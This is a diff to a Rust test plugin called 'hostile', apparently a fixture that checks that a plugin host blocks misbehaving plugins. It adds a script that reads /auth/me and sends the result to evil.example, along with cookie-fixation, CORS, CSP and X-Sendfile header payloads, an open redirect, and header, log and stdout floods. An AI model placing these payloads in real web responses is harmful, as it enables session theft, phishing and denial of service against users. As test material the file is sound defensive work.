@@ -1,7 +1,9 @@
 //! `hostile`: a test plugin that misbehaves in every way we can think of, one per path.
 //! The host must turn each into a clean JSON error and keep serving everyone else.
 
-use plinth_sdk::http::{kv, outbound, Error, Guest, HttpRequest, HttpResponse, Identity, OutboundRequest};
+use plinth_sdk::http::{
+    kv, log, outbound, Error, Guest, HttpRequest, HttpResponse, Identity, OutboundRequest,
+};
 use std::hint::black_box;
 
 struct Hostile;
@@ -26,6 +28,27 @@ impl Guest for Hostile {
             "/set-session-cookie" => Ok(HttpResponse::text(200, "fixated?")
                 .with_header("set-cookie", "plinth_session=plinth_evil; Path=/")
                 .with_header("set-cookie", "theme=dark; Path=/")),
+            "/html-script" => Ok(HttpResponse::new(
+                200,
+                "text/html; charset=utf-8",
+                "<!doctype html><script>fetch('/auth/me').then(r => r.text()).then(t => \
+                 fetch('https://evil.example/steal?' + encodeURIComponent(t)))</script>",
+            )),
+            "/hostile-headers" => Ok(hostile_headers()),
+            "/redirect" => Ok(HttpResponse::text(302, "moved")
+                .with_header("location", &percent_decode(req.query_param("to").unwrap_or("")))),
+            "/many-headers" => Ok(many_headers(&req)),
+            "/big-header" => {
+                let kib: usize = req.query_param("kib").and_then(|v| v.parse().ok()).unwrap_or(70);
+                Ok(HttpResponse::text(200, "big").with_header("x-big", &"v".repeat(kib << 10)))
+            }
+            "/log-flood" => log_flood(&req),
+            "/stdout-flood" => {
+                let mib: usize = req.query_param("mib").and_then(|v| v.parse().ok()).unwrap_or(10);
+                std::io::Write::write_all(&mut std::io::stdout(), &vec![b'x'; mib << 20])
+                    .map_err(|e| Error::Internal(e.to_string()))?;
+                Ok(HttpResponse::text(200, "printed"))
+            }
             _ => Err(Error::NotFound(format!("no hostile behaviour at {}", req.path))),
         }
     }
@@ -93,6 +116,98 @@ fn fetch(req: &HttpRequest) -> Result<HttpResponse, Error> {
         ),
         Err(e) => HttpResponse::text(200, format!("err {e}")),
     })
+}
+
+/// Every header a plugin must not set on the host's origin, in the spellings a browser
+/// would accept, next to three harmless ones that must pass.
+fn hostile_headers() -> HttpResponse {
+    let mut resp = HttpResponse::text(200, "headers");
+    // Raw pushes: `with_header` lower-cases names, and the host must not rely on that.
+    for (name, value) in [
+        ("Set-Cookie", "plinth_session=plinth_evil; Path=/"),
+        ("SET-COOKIE", "plinth_oauth=fixated; Path=/auth"),
+        ("set-cookie", "=plinth_session=plinth_nameless; Path=/"),
+        ("set-cookie", "theme=dark; Path=/"),
+        ("Set-Cookie2", "plinth_session=old-style"),
+        ("Clear-Site-Data", "\"cookies\", \"storage\""),
+        ("Strict-Transport-Security", "max-age=0"),
+        ("Content-Security-Policy", "default-src * 'unsafe-inline'"),
+        (
+            "content-security-policy-report-only",
+            "default-src 'none'; report-uri https://evil.example/r",
+        ),
+        ("X-Content-Type-Options", "sniff"),
+        ("X-Frame-Options", "ALLOWALL"),
+        ("Access-Control-Allow-Origin", "https://evil.example"),
+        ("Access-Control-Allow-Credentials", "true"),
+        ("Location", "https://evil.example/phish"),
+        ("Refresh", "0; url=https://evil.example/"),
+        ("Link", "<https://evil.example/x.css>; rel=stylesheet"),
+        ("WWW-Authenticate", "Basic realm=\"Plinth admin\""),
+        ("Alt-Svc", "h3=\"evil.example:443\""),
+        ("Permissions-Policy", "camera=*"),
+        ("Cross-Origin-Opener-Policy", "unsafe-none"),
+        ("Cross-Origin-Resource-Policy", "cross-origin"),
+        ("Referrer-Policy", "unsafe-url"),
+        ("X-Accel-Redirect", "/internal/secrets"),
+        ("X-Sendfile", "/etc/passwd"),
+        ("NEL", "{\"report_to\":\"evil\",\"max_age\":31536000}"),
+        ("X-Request-Id", "forged"),
+        ("Content-Length", "1"),
+        ("Cache-Control", "no-store"),
+        ("X-Custom", "kept"),
+        ("ETag", "\"v1\""),
+    ] {
+        resp.headers.push((name.to_string(), value.to_string()));
+    }
+    resp
+}
+
+/// `?n=N` headers `x-h{i}: v` (default 30,000): more than http's `HeaderMap` can hold.
+fn many_headers(req: &HttpRequest) -> HttpResponse {
+    let n: usize = req
+        .query_param("n")
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(30_000);
+    let mut resp = HttpResponse::text(200, format!("{n} headers"));
+    resp.headers
+        .extend((1..n).map(|i| (format!("x-h{i}"), "v".to_string())));
+    resp
+}
+
+/// `?n=N` calls of `log` (default 100,000) with messages of `?len=L` bytes (default 0).
+fn log_flood(req: &HttpRequest) -> Result<HttpResponse, Error> {
+    let n: usize = req
+        .query_param("n")
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(100_000);
+    let len: usize = req.query_param("len").and_then(|v| v.parse().ok()).unwrap_or(0);
+    let message = "x".repeat(len);
+    for _ in 0..n {
+        log::log(log::Level::Info, &message);
+    }
+    Ok(HttpResponse::text(200, format!("logged {n}")))
+}
+
+/// `%XX` escapes decoded (the query comes as sent); anything else kept as is.
+fn percent_decode(s: &str) -> String {
+    let bytes = s.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        let hex = bytes.get(i + 1..i + 3).and_then(|h| std::str::from_utf8(h).ok());
+        match (bytes[i], hex.and_then(|h| u8::from_str_radix(h, 16).ok())) {
+            (b'%', Some(b)) => {
+                out.push(b);
+                i += 3;
+            }
+            (b, _) => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    String::from_utf8_lossy(&out).into_owned()
 }
 
 plinth_sdk::http::export_http_plugin!(Hostile);
